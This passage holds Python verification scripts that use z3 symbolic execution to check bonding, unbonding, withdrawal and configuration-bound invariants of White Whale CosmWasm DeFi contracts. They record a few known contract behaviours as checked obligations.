                msg = it.mkv(LPO.XM, 'UpdateConfig', owner=NONE(), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=SOME(ft))
            return enter(it, 'terraswap_pair', 'execute', mk_env(it, 10**18), mk_info('owner', []), msg)
        n = 0; tag = 'all_options' if others else 'alone'
        for p in ck.explore(progp, bodyp, 'pair.update_config.toggle.' + tag):
            if not p.ok: continue
            n += 1
            ck.oblige('C17.pair.operator_sets.' + tag, p, differs(fld(progp, fld(progp, p.world.storage['config'], 'feature_toggle'), None)), 'the stored switches are exactly the ones the operator sent')
        ck.require(n >= 1, 'pair update_config toggles (%s): no Ok path' % tag)
    # vault: each Option<bool> independently present
    def bodyv(it):
        c = it.ctx
        LV.setup_vault(it, 'native', toggles=(c.symbool('t_flash'), c.symbool('t_deposit'), c.symbool('t_withdraw')))
        opt = lambda nm: SOME(c.symbool('w_' + nm)) if c.branch(c.symbool('has_' + nm), 'opt') else NONE()
        params = it.mk(LV.VN + 'UpdateConfigParams', flash_loan_enabled=opt('flash'), deposit_enabled=opt('deposit'), withdraw_enabled=opt('withdraw'), new_owner=NONE(),
                       new_vault_fees=NONE(), new_fee_collector_addr=NONE())
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info('owner', []), it.mkv(LV.VX, 'UpdateConfig', params))
    n = 0
    for p in ck.explore(progv, bodyv, 'vault.update_config.toggle'):
        if not p.ok: continue
        n += 1
        cfg = p.world.storage['config']
        bad = []
        for nm, fname, old in (('flash', 'flash_loan_enabled', 't_flash'), ('deposit', 'deposit_enabled', 't_deposit'), ('withdraw', 'withdraw_enabled', 't_withdraw')):
            stored = zbool(fld(progv, cfg, fname))
            bad.append(stored != z3.If(z3.Bool('has_' + nm), z3.Bool('w_' + nm), z3.Bool(old)))
        ck.oblige('C17.vault.operator_sets', p, z3.Or(*bad), 'each switch the operator sent is stored, each one left out keeps its value')
    ck.require(n >= 1, 'vault update_config toggles: no Ok path')


def run(ck):
    prog3 = ck.program('stableswap_3pool', 'white_whale_std'); progp = ck.program('terraswap_pair', 'white_whale_std'); progv = ck.program('vault', 'white_whale_std')
    trio_paths(ck, prog3); trio_instantiate(ck, prog3); operator_sets(ck, prog3, progp, progv)
    ck.bounds['trio'] = 'three-asset pool: native swap, cw20-hook swap, provide (first/next), cw20-hook withdraw with three symbolic switch bits; UpdateConfig with the switches alone and with every other option'
