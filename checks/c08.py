"""C08 — bonding: every bonded token is bonded, unbonding, or back with its owner."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_lair import *

WX = WL + 'ExecuteMsg'


def bond_step(ck, prog, denom_case):
    """denom_case: 'ok' (whitelisted, funds match), 'other' (asset denom not whitelisted), 'mismatch' (funds in another denom)"""
    def body(it):
        c = it.ctx
        st = setup_lair(it, nrec=1)
        A = c.sym('amount', 128); sent = c.sym('sent', 128)
        c.assume(sent < 2**127)
        ad = {'ok': DENOMS[0], 'other': 'uatom', 'mismatch': DENOMS[0]}[denom_case]
        fd = {'ok': DENOMS[0], 'other': 'uatom', 'mismatch': DENOMS[1]}[denom_case]
        # the attached funds are in the balance already: Inv holds for balance - sent
        if fd in DENOMS:
            i = DENOMS.index(fd)
            it.world.bank = [(a, d, x + sent if same(d, fd) else x) for a, d, x in it.world.bank]
        it.extra = dict(st=st, A=A, sent=sent)
        return enter(it, 'whale_lair', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', [COIN(fd, sent)]), it.mkv(WX, 'Bond', asset=nasset(it, ad, A)))
    n = 0
    for p in ck.explore(prog, body, 'bond.' + denom_case):
        ck.sample(dict(entry='whale_lair.execute(bond)', case=denom_case, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; A, sent = p.extra['A'], p.extra['sent']
        ck.oblige('C08.bond.funds.' + denom_case, p, z3.Or(denom_case != 'ok', sent != A, A <= 0) if denom_case == 'ok' else True,
                  'accepted only with exactly one whitelisted native coin equal to the stated asset, amount > 0')
        if denom_case != 'ok': continue
        G, gs = global_of(p)
        ck.oblige('C08.bond.user.' + denom_case, p, bond_amount(p) != st['bond_amt'] + A, 'the user\'s bond grows by the amount')
        ck.oblige('C08.bond.global.' + denom_case, p, z3.Or(G != st['g'][0] + st['g'][1] + A, gs[0] != st['g'][0] + A, gs[1] != st['g'][1]), 'global totals grow by the amount, on that denom only')
        tot, _ = unbond_sum(p); totb, _ = unbond_sum(p, 'bob')
        ck.oblige('C08.bond.conservation', p, z3.Or(tot != sum(st['us']), totb != st['bob_u'], len(effects(resp_of(p), LAIR)) != 0),
                  'bonding moves nothing out and leaves pending unbondings alone (balance = bonded + unbonding is preserved)')
    if denom_case == 'ok': ck.require(n >= 1, 'bond: no Ok path')


def bond_extra_coins(ck, prog):
    """more than one coin attached (the declared one, exact, plus another coin in either order): every attached coin ends up in the contract's
    balance but only the declared one is ledgered, so the message must be refused."""
    for order in (0, 1):
        for extra in (DENOMS[1], 'uatom'):
            def body(it, order=order, extra=extra):
                c = it.ctx
                setup_lair(it, nrec=1)
                A = c.sym('amount', 128, lo=1); X = c.sym('extra_amount', 128, lo=1)
                c.assume(A < 2**127); c.assume(X < 2**127)
                coins = [COIN(DENOMS[0], A), COIN(extra, X)]
                if order: coins.reverse()
                it.world.bank = [(a, d, x + (A if same(d, DENOMS[0]) else X if same(d, extra) else 0)) for a, d, x in it.world.bank]
                return enter(it, 'whale_lair', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', coins), it.mkv(WX, 'Bond', asset=nasset(it, DENOMS[0], A)))
            tag = 'bond.extra_coin.%s.%d' % (extra, order)
            for p in ck.explore(prog, body, tag):
                ck.sample(dict(entry='whale_lair.execute(bond) with two coins attached', extra=extra, order=order, outcome=p.short()))
                ck.oblige('C08.bond.single_coin.%s.%d' % (extra, order), p, p.ok, 'a bond message carrying any coin besides the declared one is refused (the extra coin would be held but ledgered nowhere)')


def unbond_step(ck, prog, nrec):
    def body(it):
        c = it.ctx
        st = setup_lair(it, nrec=nrec)
        A = c.sym('amount', 128)
        it.extra = dict(st=st, A=A)
        return enter(it, 'whale_lair', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', []), it.mkv(WX, 'Unbond', asset=nasset(it, DENOMS[0], A)))
    n = 0
    now = z3.Int('now')
    for p in ck.explore(prog, body, 'unbond.rec%d' % nrec):
        ck.sample(dict(entry='whale_lair.execute(unbond)', pending_records=nrec, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; A = p.extra['A']
        G, gs = global_of(p); tot, recs = unbond_sum(p); totb, _ = unbond_sum(p, 'bob')
        ck.oblige('C08.unbond.bounds', p, z3.Or(A > st['bond_amt'], A <= 0), 'cannot unbond more than is bonded, nor zero')
        ck.oblige('C08.unbond.user', p, bond_amount(p) != st['bond_amt'] - A, 'the bond shrinks by the amount')
        ck.oblige('C08.unbond.global', p, z3.Or(G != st['g'][0] + st['g'][1] - A, gs[0] != st['g'][0] - A, gs[1] != st['g'][1]), 'global totals shrink by the amount, on that denom only')
        ck.oblige('C08.unbond.no_transfer', p, len(effects(resp_of(p), LAIR)) != 0, 'unbonding moves no funds yet')
        # exactly the known behaviour: the record with the same timestamp is replaced (its amount is lost), everything else is kept
        overwritten = z3.Or(*[z3.And(now == t, tot == sum(st['us']) + A - u_) for t, u_ in zip(st['ts'], st['us'])]) if st['ts'] else z3.BoolVal(False)
        ck.oblige('C08.unbond.conservation.same_block', p, overwritten,
                  'an unbonding made at the same block time as an earlier pending one overwrites it', site='same-block unbond')
        ck.oblige('C08.unbond.conservation', p, z3.And(z3.Not(overwritten), tot != sum(st['us']) + A),
                  'the amount moves from bonded to a new pending record without losing any existing record')
        ck.oblige('C08.unbond.others', p, totb != st['bob_u'], 'other users\' pending records are untouched')
    ck.require(n >= 1, 'unbond: no Ok path')


def withdraw_step(ck, prog, nrec):
    def body(it):
        c = it.ctx
        st = setup_lair(it, nrec=nrec)
        it.extra = dict(st=st)
        return enter(it, 'whale_lair', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', []), it.mkv(WX, 'Withdraw', denom=Str(DENOMS[0])))
    n = 0
    now = z3.Int('now')
    for p in ck.explore(prog, body, 'withdraw.rec%d' % nrec):
        ck.sample(dict(entry='whale_lair.execute(withdraw)', pending_records=nrec, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; per = st['period']
        eff = effects(resp_of(p), LAIR)
        paid = total(eff, 'send', DENOMS[0])
        matured = [z3.If(now - per >= t, u_, 0) for t, u_ in zip(st['ts'], st['us'])]
        ck.oblige('C08.withdraw.amount', p, paid != sum(matured), 'pays exactly the sum of the caller\'s records whose unbonding period has elapsed')
        ck.oblige('C08.withdraw.owner_only', p, any(not (e.kind == 'send' and same(e.dst, 'alice') and same(e.asset, DENOMS[0])) for e in eff), 'one bank transfer, to the owner, in that denom')
        tot, recs = unbond_sum(p); totb, _ = unbond_sum(p, 'bob')
        ck.oblige('C08.withdraw.removes_exactly', p, z3.Or(tot != sum(st['us']) - paid, totb != st['bob_u']), 'exactly the matured records disappear; immature ones and other users\' records stay')
        ck.oblige('C08.withdraw.conservation', p, z3.Or(bond_amount(p) != st['bond_amt'], global_of(p)[0] != st['g'][0] + st['g'][1]), 'bonded totals untouched by a withdrawal')
        for (kts, amt) in recs:
            ck.oblige('C08.withdraw.kept_immature', p, now - per >= kts, 'a record that stays is not yet matured')
    ck.require(n >= 1, 'withdraw: no Ok path')


def withdrawable_query(ck, prog, nrec):
    """query_withdrawable equals what withdraw pays in the same state."""
    def body(it):
        c = it.ctx
        st = setup_lair(it, nrec=nrec)
        env = mk_env(it, c.sym('now', 64))
        q = enter(it, 'whale_lair', 'query', env, None, it.mkv(WL + 'QueryMsg', 'Withdrawable', address=Str('alice'), denom=Str(DENOMS[0])))
        if q.variant != 'Ok': raise PathPruned()
        it.extra = dict(st=st, quoted=q.fields[0].fields[0].payload.fields[0].fields[0])
        return enter(it, 'whale_lair', 'execute', env, mk_info('alice', []), it.mkv(WX, 'Withdraw', denom=Str(DENOMS[0])))
    for p in ck.explore(prog, body, 'withdrawable.rec%d' % nrec):
        if not p.ok: continue
        paid = total(effects(resp_of(p), LAIR), 'send', DENOMS[0])
        ck.oblige('C08.queries.agree', p, paid != p.extra['quoted'], 'the Withdrawable query equals what withdraw pays')


def main():
    ck = Check('C08')
    prog = ck.program('whale_lair', 'white_whale_std')
    for case in ('ok', 'other', 'mismatch'): bond_step(ck, prog, case)
    bond_extra_coins(ck, prog)
    for nrec in ((0, 1, 2) if ck.tier == 'quick' else (0, 1, 2, 3)):
        unbond_step(ck, prog, nrec)
        if nrec: withdraw_step(ck, prog, nrec)
    withdrawable_query(ck, prog, 2)
    ck.bounds.update(records='acting user with 0..%d pending unbonding records (strictly increasing symbolic timestamps) + one record of another user; everyone else as symbolic aggregates' % (2 if ck.tier == 'quick' else 3),
                     time='block time, record timestamps and unbonding period full u64 (same block, +1ns, period-1, period are points of the domain)',
                     denoms='2 whitelisted bonding denoms')
    ck.outside.append('more than 30 pending records per (user, denom): the withdraw page limit')
    ck.assumptions.append('Inv: contract balance = bonded + pending unbondings per denom; GLOBAL totals = sum of bonds; totals < 2^127')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
