"""C18 — stored configuration is always within its documented bounds: instantiate and every config-writing path with
symbolic numeric parameters (18-decimal shares are exact integers: on / just inside / just outside every bound is in the domain)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from engine.harness import *
import lib_pool as LPO, lib_vault as LV, lib_lair as LL, lib_dist as LD, lib_trio as LT
import c10 as C10

PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
DAY = 86400 * 10**9


def fld(prog, v, name):
    for i, f in enumerate(prog.adts[v.name]['variants'][0]['fields']):
        if f[0] == name: return v.fields[i]
    raise KeyError(name)


def fee_triple_bad(prog, pf, names=('protocol_fee', 'swap_fee', 'burn_fee')):
    xs = [fld(prog, fld(prog, pf, n), 'share').fields[0] for n in names]
    return z3.Or(*[x >= E18 for x in xs], sum(xs) >= E18)


def reject_no_write(ck, oid, p):
    ck.oblige(oid, p, len([w for w in p.world.writes if w[0] == 'config']) != 0, 'a rejected update changes nothing')


# ---- pair ------------------------------------------------------------------------------------------------
def pair(ck):
    prog = ck.program('terraswap_pair', 'white_whale_std')
    def inst(it):
        c = it.ctx; it.world.contract = LPO.PAIR
        pf = it.mk(PN + 'pair::PoolFee', protocol_fee=LPO.fee(it, c.sym('fp', 128)), swap_fee=LPO.fee(it, c.sym('fs', 128)), burn_fee=LPO.fee(it, c.sym('fb', 128)))
        msg = it.mk(PN + 'pair::InstantiateMsg', asset_infos=Agg('array', [LPO.info(it, 'native', 0), LPO.info(it, 'native', 1)]), token_code_id=5, asset_decimals=Agg('array', [6, 6]),
                    pool_fees=pf, fee_collector_addr=Str('collector'), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'), token_factory_lp=False)
        return enter(it, 'terraswap_pair', 'instantiate', mk_env(it, 10**18), mk_info('factory', []), msg)
    n = 0
    for p in ck.explore(prog, inst, 'pair.instantiate'):
        if p.ok:
            n += 1
            ck.oblige('C18.pair.instantiate.valid', p, fee_triple_bad(prog, fld(prog, p.world.storage['config'], 'pool_fees')), 'stored pool fees: each < 100% and sum < 100%')
    ck.require(n >= 1, 'pair instantiate: no Ok path')
    # a two-asset STABLESWAP pair: the amplification it is created with (it can never be changed afterwards) lies within [1, 10^6]
    def inst_ss(it):
        c = it.ctx; it.world.contract = LPO.PAIR
        pf = it.mk(PN + 'pair::PoolFee', protocol_fee=LPO.fee(it, c.sym('fp', 128)), swap_fee=LPO.fee(it, c.sym('fs', 128)), burn_fee=LPO.fee(it, c.sym('fb', 128)))
        msg = it.mk(PN + 'pair::InstantiateMsg', asset_infos=Agg('array', [LPO.info(it, 'native', 0), LPO.info(it, 'native', 1)]), token_code_id=5, asset_decimals=Agg('array', [6, 6]),
                    pool_fees=pf, fee_collector_addr=Str('collector'), pair_type=it.mkv(PN + 'asset::PairType', 'StableSwap', amp=c.sym('amp', 64)), token_factory_lp=False)
        return enter(it, 'terraswap_pair', 'instantiate', mk_env(it, 10**18), mk_info('factory', []), msg)
    n = 0
    for p in ck.explore(prog, inst_ss, 'pair.instantiate.stableswap'):
        if p.ok:
            n += 1
            pt = fld(prog, p.world.storage['pair_info'], 'pair_type')
            amp = pt.fields[0] if getattr(pt, 'variant', None) == 'StableSwap' else None
            ck.oblige('C18.pair.instantiate.amp', p, True if amp is None else z3.Or(zint(amp) < 1, zint(amp) > 10**6, zint(amp) != z3.Int('amp')),
                      'a stableswap pair is only created with an amplification within [1, 10^6] (stored as sent)')
    ck.require(n >= 1, 'stableswap pair instantiate: no Ok path')
    def upd(it):
        c = it.ctx; LPO.setup_pair(it, ('native', 'cw20'))
        LPO.common_inv(c, dict(f=[0, 0], b=[0, 0], at=[0, 0], ab=[0, 0], fees=[z3.Int('fee_protocol'), z3.Int('fee_swap'), z3.Int('fee_burn')])) if False else None
        c.assume(z3.Int('fee_protocol') + z3.Int('fee_swap') + z3.Int('fee_burn') < E18)
        pf = it.mk(PN + 'pair::PoolFee', protocol_fee=LPO.fee(it, c.sym('fp', 128)), swap_fee=LPO.fee(it, c.sym('fs', 128)), burn_fee=LPO.fee(it, c.sym('fb', 128)))
        msg = it.mkv(LPO.XM, 'UpdateConfig', pool_fees=SOME(pf), **opts(it, [('owner', lambda: Str('mallory')), ('fee_collector_addr', lambda: Str('mallory')), ('feature_toggle', lambda: it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=False, deposits_enabled=True, swaps_enabled=False))]))
        return enter(it, 'terraswap_pair', 'execute', mk_env(it, 10**18), mk_info(ADDR(Str(None, sym=c.sym('caller'))), []), msg)
    n = 0
    for p in ck.explore(prog, upd, 'pair.update_config'):
        if p.ok:
            n += 1
            ck.oblige('C18.pair.UpdateConfig.valid', p, fee_triple_bad(prog, fld(prog, p.world.storage['config'], 'pool_fees')), 'stored pool fees stay valid after any accepted update, whoever sends it')
        elif p.err: reject_no_write(ck, 'C18.pair.UpdateConfig.reject_no_write', p)
    ck.require(n >= 1, 'pair update: no Ok path')


# ---- trio ------------------------------------------------------------------------------------------------
def trio(ck):
    prog = ck.program('stableswap_3pool', 'white_whale_std')
    def inst(it):
        c = it.ctx; it.world.contract = LT.TRIO
        pf = it.mk(LT.TM + 'PoolFee', protocol_fee=LT.tfee(it, c.sym('fp', 128)), swap_fee=LT.tfee(it, c.sym('fs', 128)), burn_fee=LT.tfee(it, c.sym('fb', 128)))
        msg = it.mk(LT.TM + 'InstantiateMsg', asset_infos=Agg('array', [LT.tinfo(it, 'native', i) for i in range(3)]), token_code_id=5, asset_decimals=Agg('array', [6, 6, 6]),
                    pool_fees=pf, fee_collector_addr=Str('collector'), amp_factor=c.sym('amp', 64), token_factory_lp=False)
        return enter(it, 'stableswap_3pool', 'instantiate', mk_env(it, 10**18, height=c.sym('height', 64)), mk_info('factory', []), msg)
    n = 0
    for p in ck.explore(prog, inst, 'trio.instantiate'):
        if p.ok:
            n += 1
            cfg = p.world.storage['config']
            ck.oblige('C18.trio.instantiate.valid', p, z3.Or(fee_triple_bad(prog, fld(prog, cfg, 'pool_fees')), fld(prog, cfg, 'initial_amp') < 1, fld(prog, cfg, 'initial_amp') > 10**6,
                                                             fld(prog, cfg, 'future_amp') != fld(prog, cfg, 'initial_amp')), 'valid fees and amplification within [1, 10^6]')
    ck.require(n >= 1, 'trio instantiate: no Ok path')
    def upd(it):
        c = it.ctx; st = LT.setup_trio(it)
        pf = it.mk(LT.TM + 'PoolFee', protocol_fee=LT.tfee(it, c.sym('fp', 128)), swap_fee=LT.tfee(it, c.sym('fs', 128)), burn_fee=LT.tfee(it, c.sym('fb', 128)))
        msg = it.mkv(LT.TXM, 'UpdateConfig', pool_fees=SOME(pf), amp_factor=NONE(), **opts(it, [('owner', lambda: Str('mallory')), ('fee_collector_addr', lambda: Str('mallory')), ('feature_toggle', lambda: it.mk(LT.TM + 'FeatureToggle', withdrawals_enabled=False, deposits_enabled=True, swaps_enabled=False))]))
        return enter(it, 'stableswap_3pool', 'execute', mk_env(it, 10**18, height=c.sym('height', 64)), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, upd, 'trio.update_config'):
        if p.ok:
            n += 1
            ck.oblige('C18.trio.UpdateConfig.valid', p, fee_triple_bad(prog, fld(prog, p.world.storage['config'], 'pool_fees')), 'stored pool fees stay valid')
        elif p.err: reject_no_write(ck, 'C18.trio.UpdateConfig.reject_no_write', p)
    ck.require(n >= 1, 'trio update: no Ok path')
    # the amplification ramp path of UpdateConfig from an arbitrary stored ramp (also one still in progress): bounds of the accepted target
    import c04 as C04
    it0 = Interp(prog, Ctx(), World())
    C04.MIN_RAMP = it0.const('contract::MIN_RAMP_BLOCKS', prog.get('stableswap_3pool::commands::update_config'))
    C04.ramp_update(ck, prog, only_bounds=True)


# ---- vault -----------------------------------------------------------------------------------------------
DENOM_SHAPES = ['uluna', 'ibc/ABCDEF0123', 'factory/migaloo1abcd/ampwhale', 'factory/migaloo1abcd/sub/denom']


def vault(ck):
    prog = ck.program('vault', 'white_whale_std')
    VF = 'white_whale_std::fee::VaultFee'
    def is_factory(it, denom):
        return run_entry(it, 'white_whale_std::pool_network::asset::is_factory_token', Ref([Str(denom)], 0))
    for shape in DENOM_SHAPES + ['cw20']:
        def inst(it, shape=shape):
            c = it.ctx; it.world.contract = LV.VAULT
            vf = it.mk(VF, protocol_fee=LV.vfee(it, c.sym('fp', 128)), flash_loan_fee=LV.vfee(it, c.sym('fl', 128)), burn_fee=LV.vfee(it, c.sym('fb', 128)))
            ai = it.mkv(AI, 'Token', contract_addr=Str('vault_token')) if shape == 'cw20' else it.mkv(AI, 'NativeToken', denom=Str(shape))
            it.extra = dict(factory=(shape != 'cw20' and is_factory(it, shape)))
            if shape == 'cw20': it.world.cw20_info['vault_token'] = dict(total_supply=c.sym('vt_supply', 128), decimals=6)
            msg = it.mk(LV.VN + 'InstantiateMsg', owner=Str('owner'), asset_info=ai, token_id=5, vault_fees=vf, fee_collector_addr=Str('collector'), token_factory_lp=False)
            return enter(it, 'vault', 'instantiate', mk_env(it, 10**18), mk_info('factory', []), msg)
        n = 0
        for p in ck.explore(prog, inst, 'vault.instantiate.' + shape.split('/')[0]):
            if not p.ok: continue
            n += 1
            fees = fld(prog, p.world.storage['config'], 'fees')
            burn = fld(prog, fld(prog, fees, 'burn_fee'), 'share').fields[0]
            ck.oblige('C18.vault.instantiate.valid.' + shape, p, fee_triple_bad(prog, fees, ('protocol_fee', 'flash_loan_fee', 'burn_fee')), 'vault fees: each < 100% and sum < 100%')
            ck.oblige('C18.vault.factory_token_no_burn.instantiate.' + shape, p, z3.And(bool(p.extra['factory']), burn > 0), 'a vault over a token-factory asset has no burn fee')
        ck.require(n >= 1, 'vault instantiate %s: no Ok path' % shape)
        def upd(it, shape=shape):
            c = it.ctx
            st = LV.setup_vault(it, 'cw20' if shape == 'cw20' else 'native')
            if shape != 'cw20':
                cfg = it.world.storage['config']
                it.setfld(cfg, 'asset_info', it.mkv(AI, 'NativeToken', denom=Str(shape)))
                c.assume(z3.Implies(z3.BoolVal(bool(is_factory(it, shape))), z3.Int('vfee_burn') == 0))      # the stored config satisfies the rule before the update
            it.extra = dict(factory=(shape != 'cw20' and is_factory(it, shape)))
            vf = it.mk(VF, protocol_fee=LV.vfee(it, c.sym('fp', 128)), flash_loan_fee=LV.vfee(it, c.sym('fl', 128)), burn_fee=LV.vfee(it, c.sym('fb', 128)))
            params = it.mk(LV.VN + 'UpdateConfigParams', new_vault_fees=SOME(vf), **opts(it, [('flash_loan_enabled', lambda: False), ('deposit_enabled', lambda: False), ('withdraw_enabled', lambda: False), ('new_owner', lambda: Str('mallory')), ('new_fee_collector_addr', lambda: Str('mallory'))]))
            return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info('owner', []), it.mkv(LV.VX, 'UpdateConfig', params))
        n = 0
        for p in ck.explore(prog, upd, 'vault.update_config.' + shape.split('/')[0]):
            if p.ok:
                n += 1
                fees = fld(prog, p.world.storage['config'], 'fees')
                burn = fld(prog, fld(prog, fees, 'burn_fee'), 'share').fields[0]
                ck.oblige('C18.vault.UpdateConfig.valid.' + shape, p, fee_triple_bad(prog, fees, ('protocol_fee', 'flash_loan_fee', 'burn_fee')), 'vault fees stay valid')
                ck.oblige('C18.vault.factory_token_no_burn.update.' + shape, p, z3.And(bool(p.extra['factory']), burn > 0),
                          'update_config tests the LP asset, not the vault asset, for being a token-factory denom: a vault over a factory token can be given a burn fee',
                          site='vault update_config checks lp_asset')
            elif p.err: reject_no_write(ck, 'C18.vault.UpdateConfig.reject_no_write', p)
        ck.require(n >= 1, 'vault update %s: no Ok path' % shape)


# ---- distributor, lair, collector -----------------------------------------------------------------------------
def distributor(ck):
    prog = ck.program('fee_distributor', 'white_whale_std')
    EM = LD.EM
    def inst(it):
        c = it.ctx; it.world.contract = LD.DIST
        msg = it.mk(LD.FD + 'InstantiateMsg', bonding_contract_addr=Str('whale_lair_contract'), fee_collector_addr=Str('fee_collector_contract'), grace_period=U64(c.sym('grace', 64)),
                    epoch_config=it.mk(EM + 'EpochConfig', duration=U64(c.sym('duration', 64)), genesis_epoch=U64(c.sym('genesis', 64))), distribution_asset=LD.nat(it, 'uwhale'))
        return enter(it, 'fee_distributor', 'instantiate', mk_env(it, 10**18), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, inst, 'distributor.instantiate'):
        if p.ok:
            n += 1
            cfg = p.world.storage['config']
            g = fld(prog, cfg, 'grace_period').fields[0]; d = fld(prog, fld(prog, cfg, 'epoch_config'), 'duration').fields[0]
            ck.oblige('C18.distributor.instantiate.valid', p, z3.Or(g < 1, g > 30, d < DAY), 'grace period within [1,30], epoch duration >= 1 day')
    ck.require(n >= 1, 'distributor instantiate: no Ok path')
    def upd(it):
        c = it.ctx
        st = LD.setup_dist(it, 1, 1)
        c.assume(st['dur'] >= DAY)
        msg = it.mkv(LD.FX, 'UpdateConfig', grace_period=SOME(U64(c.sym('new_grace', 64))), **opts(it, [('owner', lambda: Str('mallory')), ('bonding_contract_addr', lambda: Str('mallory')), ('fee_collector_addr', lambda: Str('mallory')), ('distribution_asset', lambda: it.mkv(AI, 'NativeToken', denom=Str('uatom')))]),
                     epoch_config=SOME(it.mk(EM + 'EpochConfig', duration=U64(c.sym('new_duration', 64)), genesis_epoch=U64(c.sym('new_genesis', 64)))))
        it.extra = dict(st=st)
        return enter(it, 'fee_distributor', 'execute', mk_env(it, 10**18), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, upd, 'distributor.update_config'):
        if p.ok:
            n += 1
            cfg = p.world.storage['config']; st = p.extra['st']
            g = fld(prog, cfg, 'grace_period').fields[0]; d = fld(prog, fld(prog, cfg, 'epoch_config'), 'duration').fields[0]
            ck.oblige('C18.distributor.UpdateConfig.valid', p, z3.Or(g < 1, g > 30, d < DAY), 'bounds hold after any accepted update')
            ck.oblige('C18.distributor.grace_monotone', p, g < st['grace'], 'the grace period never decreases')
        elif p.err: reject_no_write(ck, 'C18.distributor.UpdateConfig.reject_no_write', p)
    ck.require(n >= 1, 'distributor update: no Ok path')
    # partial updates: the grace period and the epoch configuration each independently present or absent (everything else absent):
    # a bound must not depend on ANOTHER field being part of the same message
    def upd_partial(it):
        c = it.ctx
        st = LD.setup_dist(it, 1, 1)
        c.assume(st['dur'] >= DAY)
        o = opts(it, [('grace_period', lambda: U64(c.sym('new_grace', 64))),
                      ('epoch_config', lambda: it.mk(EM + 'EpochConfig', duration=U64(c.sym('new_duration', 64)), genesis_epoch=U64(c.sym('new_genesis', 64))))])
        msg = it.mkv(LD.FX, 'UpdateConfig', owner=NONE(), bonding_contract_addr=NONE(), fee_collector_addr=NONE(), distribution_asset=NONE(), **o)
        it.extra = dict(st=st)
        return enter(it, 'fee_distributor', 'execute', mk_env(it, 10**18), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, upd_partial, 'distributor.update_config.partial'):
        if p.ok:
            n += 1
            cfg = p.world.storage['config']; st = p.extra['st']
            g = fld(prog, cfg, 'grace_period').fields[0]; d = fld(prog, fld(prog, cfg, 'epoch_config'), 'duration').fields[0]
            ck.oblige('C18.distributor.UpdateConfig.partial.valid', p, z3.Or(g < 1, g > 30, d < DAY), 'bounds hold after any accepted partial update (grace period and epoch configuration independently present or absent)')
            ck.oblige('C18.distributor.UpdateConfig.partial.grace_monotone', p, g < st['grace'], 'the grace period never decreases')
        elif p.err: reject_no_write(ck, 'C18.distributor.UpdateConfig.partial.reject_no_write', p)
    ck.require(n >= 1, 'distributor partial update: no Ok path')


def lair(ck):
    prog = ck.program('whale_lair', 'white_whale_std')
    for nassets in (0, 1, 2, 3):
        def inst(it, nassets=nassets):
            c = it.ctx; it.world.contract = LL.LAIR
            msg = it.mk(LL.WL + 'InstantiateMsg', unbonding_period=U64(c.sym('period', 64)), growth_rate=DEC(c.sym('growth', 128)),
                        bonding_assets=VecV([LL.nat(it, 'denom%d' % i) for i in range(nassets)]))
            return enter(it, 'whale_lair', 'instantiate', mk_env(it, 10**18), mk_info('owner', []), msg)
        for p in ck.explore(prog, inst, 'lair.instantiate.%d' % nassets):
            if p.ok:
                cfg = p.world.storage['config']
                ck.oblige('C18.lair.instantiate.valid.%d' % nassets, p, z3.Or(fld(prog, cfg, 'growth_rate').fields[0] > E18, len(fld(prog, cfg, 'bonding_assets').items) > 2),
                          'growth rate <= 1 and at most two bonding assets')
    # a cw20 bonding asset is refused
    def inst_tok(it):
        msg = it.mk(LL.WL + 'InstantiateMsg', unbonding_period=U64(5), growth_rate=DEC(1), bonding_assets=VecV([it.mkv(AI, 'Token', contract_addr=Str('some_token'))]))
        it.world.contract = LL.LAIR
        return enter(it, 'whale_lair', 'instantiate', mk_env(it, 10**18), mk_info('owner', []), msg)
    for p in ck.explore(prog, inst_tok, 'lair.instantiate.token'):
        ck.oblige('C18.lair.instantiate.native_only', p, p.ok, 'only native bonding assets are accepted')
    def upd(it):
        c = it.ctx; LL.setup_lair(it, nrec=0, bob=False)
        msg = it.mkv(LL.WL + 'ExecuteMsg', 'UpdateConfig', growth_rate=SOME(DEC(c.sym('new_growth', 128))), **opts(it, [('owner', lambda: Str('mallory')), ('unbonding_period', lambda: U64(c.sym('new_period', 64))), ('fee_distributor_addr', lambda: Str('mallory'))]))
        return enter(it, 'whale_lair', 'execute', mk_env(it, 10**18), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, upd, 'lair.update_config'):
        if p.ok:
            n += 1
            ck.oblige('C18.lair.UpdateConfig.valid', p, fld(prog, p.world.storage['config'], 'growth_rate').fields[0] > E18, 'growth rate stays <= 1')
        elif p.err: reject_no_write(ck, 'C18.lair.UpdateConfig.reject_no_write', p)
    ck.require(n >= 1, 'lair update: no Ok path')


def collector(ck):
    prog = ck.program('fee_collector', 'white_whale_std')
    def inst(it):
        it.world.contract = C10.COLL
        return enter(it, 'fee_collector', 'instantiate', mk_env(it, 10**18), mk_info('owner', []), Agg(C10.FC + 'InstantiateMsg', []))
    for p in ck.explore(prog, inst, 'collector.instantiate'):
        if p.ok: ck.oblige('C18.collector.instantiate.valid', p, fld(prog, p.world.storage['config'], 'take_rate').fields[0] >= E18, 'initial take rate below 1')
    def upd(it):
        c = it.ctx; C10.setup_coll(it)
